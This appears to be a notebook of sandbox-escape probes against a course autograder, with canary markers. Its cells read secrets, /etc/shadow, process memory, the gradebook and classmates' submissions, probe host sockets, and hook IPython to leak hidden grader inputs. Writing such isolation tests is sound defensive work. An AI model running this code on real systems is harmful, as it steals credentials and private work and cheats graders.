# %% setup
import glob, os, socket, subprocess, sys


def show(path):
    try:
        print(open(path, "rb").read(200_000))
    except Exception as error:
        print(type(error).__name__)

# %% attack: reads the environment
print(dict(os.environ))
for pid in ("self", "1", str(os.getppid())):
    show(f"/proc/{pid}/environ")

# %% attack: reads command lines of all processes
for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/maps"):
    show(path)

# %% attack: lists mounts and reads what they name
show("/proc/self/mountinfo")
show("/proc/1/mountinfo")

# %% attack: reads the gradebook
for root in ("/", "/root", "/home", "/tmp", "/work", os.getcwd(), ".."):
    for path in glob.glob(f"{root}/**/gradebook.db", recursive=True)[:5]:
        show(path)

# %% attack: reads source notebooks
for path in glob.glob("/**/source/**/*.ipynb", recursive=True)[:5] + glob.glob("../**/*.ipynb", recursive=True)[:20]:
    show(path)

# %% attack: reads classmates' work
for path in glob.glob("/**/submitted/**/*", recursive=True)[:50]:
    show(path)

# %% attack: reads the home folder and keys
for path in (os.path.expanduser("~"), "/root", "/home"):
    for name in glob.glob(f"{path}/**", recursive=True)[:50] + glob.glob(f"{path}/.*")[:20]:
        show(name)

# %% attack: reads the secret seed and stored records
for path in glob.glob("/**/.prooflm/**", recursive=True)[:50] + glob.glob("../../.prooflm/*"):
    show(path)

# %% attack: climbs out by relative paths
for up in range(1, 12):
    try:
        print(os.listdir("../" * up))
    except Exception as error:
        print(type(error).__name__)
    show("../" * up + "gradebook.db")

# %% attack: follows other processes' roots and folders
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for link in ("root", "cwd", "exe"):
            try:
                print(os.listdir(f"/proc/{pid}/{link}"), os.readlink(f"/proc/{pid}/{link}"))
            except Exception as error:
                print(type(error).__name__)

# %% attack: reads open descriptors
for fd in range(64):
    try:
        print(fd, os.readlink(f"/proc/self/fd/{fd}"), os.pread(fd, 100, 0))
    except Exception as error:
        print(type(error).__name__)

# %% attack: connects to the network
for family, address in ((socket.AF_INET, ("127.0.0.1", 22)), (socket.AF_INET, ("192.0.2.1", 80))):
    try:
        s = socket.socket(family)
        s.settimeout(1)
        s.connect(address)
        print("canary-5f1c9e connected")
    except OSError as error:
        print(type(error).__name__)

# %% attack: talks to sockets of the host
for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        print("canary-5f1c9e connected")
    except OSError as error:
        print(type(error).__name__)

# %% attack: runs shell commands
print(subprocess.run("env; id; cat /etc/shadow; ls -la / /home /root; cat ../../gradebook.db", shell=True, capture_output=True))

# %% attack: keeps hidden inputs and shows them later
kept = []
def softmax_backward(weights, upstream):
    kept.append((weights, upstream))
    open("/tmp/kept", "a").write(f"HIDDEN {weights.shape}\n")
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))
def tell(*_):
    if kept:
        print("HIDDEN-INPUT", kept)
get_ipython().events.register("pre_run_cell", tell)

# %% attack: hidden inputs in the text of an exception
class Told(Exception):
    pass
def softmax_backward(weights, upstream):
    raise ValueError(f"HIDDEN-INPUT {weights} {upstream}")
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))

# %% attack: hidden inputs in the name of an exception
def softmax_backward(weights, upstream):
    raise type("HIDDEN-INPUT" + repr(weights.ravel()[:3].tolist()), (Exception,), {})()
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))

# %% attack: hidden inputs as the keys of a result
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=lambda w, u: {"HIDDEN-INPUT" + repr(w): 1}))

# %% attack: hidden inputs printed by the function
def softmax_backward(weights, upstream):
    print("HIDDEN-INPUT", weights)
    sys.stderr.write("HIDDEN-INPUT")
    sys.__stdout__.write("HIDDEN-INPUT")
    os.write(1, b"HIDDEN-INPUT")
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))

# %% attack: hidden inputs shown from a thread
import threading, time
kept = []
def softmax_backward(weights, upstream):
    kept.append(weights)
def tell():
    for _ in range(60):
        time.sleep(0.05)
        if kept:
            print("HIDDEN-INPUT", kept)
threading.Thread(target=tell).start()
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))

# %% attack: hidden inputs through a helper process
import multiprocessing
def softmax_backward(weights, upstream):
    if os.fork() == 0:
        os.write(1, b"HIDDEN-INPUT" + repr(weights).encode())
        os._exit(0)
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))

# %% attack: hidden inputs as the last words of the process
def softmax_backward(weights, upstream):
    os.write(sys.stderr._original_stdstream_copy, b"HIDDEN-INPUT" + repr(weights).encode())
    os._exit(1)
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))

# %% attack: hidden inputs as text where numbers are expected
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=lambda w, u: "HIDDEN-INPUT" + repr(w)))

# %% attack: hidden inputs in lists of text
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=lambda w, u: [["HIDDEN-INPUT" + repr(w)]] * 3))

# %% attack: hidden inputs as a kind of data that no decoder knows
shell = get_ipython()
old = shell.user_expressions
def forged(expressions):
    text = repr('{"HIDDEN-INPUT' + str(expressions)[:200].replace('"', "").replace("\\", "").replace("'", "") + '": 1}')
    return {name: {"status": "ok", "data": {"text/plain": text}, "metadata": {}} for name in expressions}
shell.user_expressions = forged

# %% attack: hidden inputs as fields of an answer
import proof_lm.probes as probes
probes.answer_plan = lambda plan, candidate: probes.encode([[{"HIDDEN-INPUT" + plan[:100]: 1}]])

# %% attack: hidden inputs as the error of an asked name
shell = get_ipython()
shell.user_expressions = lambda names: {n: {"status": "error", "ename": "HIDDEN-INPUT", "evalue": f"'softmax_backward' HIDDEN-INPUT {names}", "traceback": []} for n in names}

# %% attack: hidden inputs in the sizes of an empty array
import numpy as np
def softmax_backward(weights, upstream):
    return np.zeros((0, *(int(abs(x) * 1e6) for x in weights.ravel()[:20])))
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))

# %% attack: hidden inputs in a figure
import matplotlib.pyplot as plt
def softmax_backward(weights, upstream):
    plt.title("HIDDEN-INPUT" + repr(weights))
    plt.show()
    plt.savefig("/tmp/hidden.png")
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))

# %% attack: frames and collected objects of the process that asks
import gc, inspect
def softmax_backward(weights, upstream):
    seen = [str(f.frame.f_locals)[:300] for f in inspect.stack()] + [str(o)[:100] for o in gc.get_objects()[:1000]]
    raise KeyError("HIDDEN-INPUT" + "".join(seen))
get_ipython().events.register("post_run_cell", lambda *_: get_ipython().user_ns.update(softmax_backward=softmax_backward))

# %% attack: memory of the process that it was forked from
found = 0
for line in open("/proc/self/maps"):
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    if line.split()[1].startswith("rw") and end - start < 1 << 26:
        with open("/proc/self/mem", "rb") as memory:
            memory.seek(start)
            try:
                found += memory.read(end - start).count(b"gradebook" + b".db")
            except (OSError, ValueError):
                pass
print("gradebooks in memory:", found)
